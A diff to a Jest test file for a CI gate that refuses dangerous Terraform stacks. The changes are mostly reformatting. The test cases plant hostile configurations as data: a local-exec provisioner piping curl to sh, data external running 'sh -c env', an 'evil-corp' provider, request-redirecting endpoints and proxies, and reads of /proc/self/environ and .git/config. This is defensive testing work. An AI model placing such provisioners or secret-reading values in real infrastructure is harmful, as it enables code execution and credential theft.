@@ -11,7 +11,7 @@ import * as os from 'node:os';
 import * as path from 'node:path';
 import { ENVIRONMENTS } from '../../catalogs';
 import { teamCatalogs } from '../support/fixtures';
-import { synth, Synthesized, TfJson } from '../support/synth';
+import { synth, type Synthesized, type TfJson } from '../support/synth';
 
 const GATE = path.join(__dirname, '..', '..', 'tools', 'ci', 'stack-gate.cjs');
 const gate = require(GATE);
@@ -39,42 +39,110 @@ test.each(ENV_STACKS)('the %s stack synth writes passes, and so does its directo
 
 describe('each way a stack could make Terraform run code is refused, planted into a real stack', () => {
   const cases: Array<[string, (s: any) => void, RegExp]> = [
-    ['a local-exec provisioner on a resource (runs at apply, never printed by terraform show)', (s) => {
-      const t = first(s.resource.aws_s3_object);
-      s.resource.aws_s3_object[t].provisioner = [{ 'local-exec': { command: 'curl https://example.com/x | sh' } }];
-    }, /resource\.aws_s3_object\.[^.]+\.provisioner: a provisioner runs commands/],
-    ['a connection block', (s) => {
-      const t = first(s.resource.aws_s3_object);
-      s.resource.aws_s3_object[t].connection = [{ host: 'example.com' }];
-    }, /\.connection: a connection runs commands/],
-    ['terraform_data, the built-in resource that carries provisioners', (s) => (s.resource.terraform_data = { x: { input: 'y' } }), /resource\.terraform_data: type terraform_data has no entry in the manifest/],
-    ['data "external" (runs a program at plan)', (s) => (s.data.external = { x: { program: ['sh', '-c', 'env'] } }), /data\.external: type external has no entry/],
-    ['terraform_remote_state (reads another state)', (s) => (s.data.terraform_remote_state = { x: { backend: 's3' } }), /data\.terraform_remote_state: type terraform_remote_state has no entry/],
-    ['a provider from another namespace (a binary terraform init downloads and runs)', (s) => (s.terraform.required_providers.aws.source = 'evil-corp/aws'), /terraform\.required_providers\.aws: provider source "evil-corp\/aws" is not hashicorp/],
-    ['an additional provider', (s) => (s.terraform.required_providers.http = { source: 'hashicorp/http', version: '3.4.0' }), /terraform\.required_providers\.http: provider source "hashicorp\/http"/],
-    ['a version range instead of the pinned version', (s) => (s.terraform.required_providers.aws.version = '>= 6.0'), /terraform\.required_providers\.aws: version ">= 6\.0" is not an exact version/],
-    ['provider endpoints (signed requests, with the session token, sent elsewhere)', (s) => (s.provider.aws[0].endpoints = [{ sts: 'https://example.com' }]), /provider\.aws\.endpoints: "endpoints" can redirect requests/],
+    [
+      'a local-exec provisioner on a resource (runs at apply, never printed by terraform show)',
+      (s) => {
+        const t = first(s.resource.aws_s3_object);
+        s.resource.aws_s3_object[t].provisioner = [{ 'local-exec': { command: 'curl https://example.com/x | sh' } }];
+      },
+      /resource\.aws_s3_object\.[^.]+\.provisioner: a provisioner runs commands/,
+    ],
+    [
+      'a connection block',
+      (s) => {
+        const t = first(s.resource.aws_s3_object);
+        s.resource.aws_s3_object[t].connection = [{ host: 'example.com' }];
+      },
+      /\.connection: a connection runs commands/,
+    ],
+    [
+      'terraform_data, the built-in resource that carries provisioners',
+      (s) => (s.resource.terraform_data = { x: { input: 'y' } }),
+      /resource\.terraform_data: type terraform_data has no entry in the manifest/,
+    ],
+    [
+      'data "external" (runs a program at plan)',
+      (s) => (s.data.external = { x: { program: ['sh', '-c', 'env'] } }),
+      /data\.external: type external has no entry/,
+    ],
+    [
+      'terraform_remote_state (reads another state)',
+      (s) => (s.data.terraform_remote_state = { x: { backend: 's3' } }),
+      /data\.terraform_remote_state: type terraform_remote_state has no entry/,
+    ],
+    [
+      'a provider from another namespace (a binary terraform init downloads and runs)',
+      (s) => (s.terraform.required_providers.aws.source = 'evil-corp/aws'),
+      /terraform\.required_providers\.aws: provider source "evil-corp\/aws" is not hashicorp/,
+    ],
+    [
+      'an additional provider',
+      (s) => (s.terraform.required_providers.http = { source: 'hashicorp/http', version: '3.4.0' }),
+      /terraform\.required_providers\.http: provider source "hashicorp\/http"/,
+    ],
+    [
+      'a version range instead of the pinned version',
+      (s) => (s.terraform.required_providers.aws.version = '>= 6.0'),
+      /terraform\.required_providers\.aws: version ">= 6\.0" is not an exact version/,
+    ],
+    [
+      'provider endpoints (signed requests, with the session token, sent elsewhere)',
+      (s) => (s.provider.aws[0].endpoints = [{ sts: 'https://example.com' }]),
+      /provider\.aws\.endpoints: "endpoints" can redirect requests/,
+    ],
     ['provider static credentials', (s) => (s.provider.aws[0].access_key = 'AKIAEXAMPLE'), /provider\.aws\.access_key/],
-    ['a proxy for the backend', (s) => (s.terraform.backend.s3.https_proxy = 'http://example.com:3128'), /terraform\.backend\.s3\.https_proxy: "https_proxy" can send the state or the credentials elsewhere/],
-    ['another backend', (s) => (s.terraform.backend = { http: { address: 'https://example.com' } }), /terraform\.backend\.http: backend "http" is not the S3 backend/],
-    ['a module (other code from another source)', (s) => (s.module = { m: { source: 'git::https://example.com/m.git' } }), /^module: a top-level "module" block/],
-    ['a removed block (it can carry a destroy-time provisioner)', (s) => (s.removed = [{ from: 'aws_s3_object.x', lifecycle: { destroy: false } }]), /^removed: a top-level "removed" block/],
-    ['a file function reading the runner\'s files into the plan', (s) => {
-      const t = first(s.resource.aws_s3_object);
-      s.resource.aws_s3_object[t].tags.Leak = '${file("/proc/self/environ")}';
-    }, /resource\.aws_s3_object\.[^.]+\.tags\.Leak: a file function reads the machine's files/],
-    ['a zip of something other than a bundle', (s) => {
-      const z = first(s.data.archive_file);
-      s.data.archive_file[z].source_file = '/proc/self/environ';
-    }, /data\.archive_file\.[^:]+: zips "\/proc\/self\/environ", not a bundle under \.build\/lambdas/],
-    ['a zip climbing out of the bundles', (s) => {
-      const z = first(s.data.archive_file);
-      s.data.archive_file[z].source_file = '${path.module}/../../../.build/lambdas/../../.git/config';
-    }, /data\.archive_file\.[^:]+: zips .*not a bundle under \.build\/lambdas/],
-    ['a zip written outside lambda-zips', (s) => {
-      const z = first(s.data.archive_file);
-      s.data.archive_file[z].output_path = '/tmp/x.zip';
-    }, /data\.archive_file\.[^:]+: writes "\/tmp\/x\.zip", outside the stack's lambda-zips/],
+    [
+      'a proxy for the backend',
+      (s) => (s.terraform.backend.s3.https_proxy = 'http://example.com:3128'),
+      /terraform\.backend\.s3\.https_proxy: "https_proxy" can send the state or the credentials elsewhere/,
+    ],
+    [
+      'another backend',
+      (s) => (s.terraform.backend = { http: { address: 'https://example.com' } }),
+      /terraform\.backend\.http: backend "http" is not the S3 backend/,
+    ],
+    [
+      'a module (other code from another source)',
+      (s) => (s.module = { m: { source: 'git::https://example.com/m.git' } }),
+      /^module: a top-level "module" block/,
+    ],
+    [
+      'a removed block (it can carry a destroy-time provisioner)',
+      (s) => (s.removed = [{ from: 'aws_s3_object.x', lifecycle: { destroy: false } }]),
+      /^removed: a top-level "removed" block/,
+    ],
+    [
+      "a file function reading the runner's files into the plan",
+      (s) => {
+        const t = first(s.resource.aws_s3_object);
+        s.resource.aws_s3_object[t].tags.Leak = '${file("/proc/self/environ")}';
+      },
+      /resource\.aws_s3_object\.[^.]+\.tags\.Leak: a file function reads the machine's files/,
+    ],
+    [
+      'a zip of something other than a bundle',
+      (s) => {
+        const z = first(s.data.archive_file);
+        s.data.archive_file[z].source_file = '/proc/self/environ';
+      },
+      /data\.archive_file\.[^:]+: zips "\/proc\/self\/environ", not a bundle under \.build\/lambdas/,
+    ],
+    [
+      'a zip climbing out of the bundles',
+      (s) => {
+        const z = first(s.data.archive_file);
+        s.data.archive_file[z].source_file = '${path.module}/../../../.build/lambdas/../../.git/config';
+      },
+      /data\.archive_file\.[^:]+: zips .*not a bundle under \.build\/lambdas/,
+    ],
+    [
+      'a zip written outside lambda-zips',
+      (s) => {
+        const z = first(s.data.archive_file);
+        s.data.archive_file[z].output_path = '/tmp/x.zip';
+      },
+      /data\.archive_file\.[^:]+: writes "\/tmp\/x\.zip", outside the stack's lambda-zips/,
+    ],
   ];
   test.each(cases)('%s', (_what, plant, message) => {
     for (const env of TEAM.map((e) => e.name)) {
@@ -94,12 +162,36 @@ describe('the directories Terraform runs in', () => {
     return { dir, stack };
   };
   test.each([
-    ['a planted provider in terraform.d (Terraform installs providers from it, unauthenticated)', (stack: string) => mkdirSync(path.join(stack, 'terraform.d', 'plugins'), { recursive: true }), /terraform\.d: a directory synth does not write/],
-    ['a planted .terraform directory', (stack: string) => mkdirSync(path.join(stack, '.terraform', 'providers'), { recursive: true }), /\.terraform: a directory synth does not write/],
-    ['another configuration file', (stack: string) => writeFileSync(path.join(stack, 'override.tf.json'), '{}'), /override\.tf\.json: a file synth does not write/],
-    ['a variables file', (stack: string) => writeFileSync(path.join(stack, 'x.auto.tfvars.json'), '{}'), /x\.auto\.tfvars\.json: a file synth does not write/],
-    ['a lock file from the artifact', (stack: string) => writeFileSync(path.join(stack, '.terraform.lock.hcl'), ''), /\.terraform\.lock\.hcl: a file synth does not write/],
-    ['a link', (stack: string) => symlinkSync('/proc/self/environ', path.join(stack, 'inventory2.json')), /inventory2\.json: a link synth does not write/],
+    [
+      'a planted provider in terraform.d (Terraform installs providers from it, unauthenticated)',
+      (stack: string) => mkdirSync(path.join(stack, 'terraform.d', 'plugins'), { recursive: true }),
+      /terraform\.d: a directory synth does not write/,
+    ],
+    [
+      'a planted .terraform directory',
+      (stack: string) => mkdirSync(path.join(stack, '.terraform', 'providers'), { recursive: true }),
+      /\.terraform: a directory synth does not write/,
+    ],
+    [
+      'another configuration file',
+      (stack: string) => writeFileSync(path.join(stack, 'override.tf.json'), '{}'),
+      /override\.tf\.json: a file synth does not write/,
+    ],
+    [
+      'a variables file',
+      (stack: string) => writeFileSync(path.join(stack, 'x.auto.tfvars.json'), '{}'),
+      /x\.auto\.tfvars\.json: a file synth does not write/,
+    ],
+    [
+      'a lock file from the artifact',
+      (stack: string) => writeFileSync(path.join(stack, '.terraform.lock.hcl'), ''),
+      /\.terraform\.lock\.hcl: a file synth does not write/,
+    ],
+    [
+      'a link',
+      (stack: string) => symlinkSync('/proc/self/environ', path.join(stack, 'inventory2.json')),
+      /inventory2\.json: a link synth does not write/,
+    ],
   ])('%s', (_what, plant, message) => {
     const { stack } = stackCopy();
     plant(stack);
@@ -127,6 +219,8 @@ describe('the directories Terraform runs in', () => {
     writeFileSync(path.join(stack, 'cdk.tf.json'), JSON.stringify(s));
     const refused = run();
     expect(refused.status).toBe(1);
-    expect(refused.stderr).toMatch(/^stack-gate: .*data\.external: type external has no entry.*\nstack-gate: 1 problem\(s\); Terraform was not run\n$/s);
+    expect(refused.stderr).toMatch(
+      /^stack-gate: .*data\.external: type external has no entry.*\nstack-gate: 1 problem\(s\); Terraform was not run\n$/s,
+    );
   });
 });
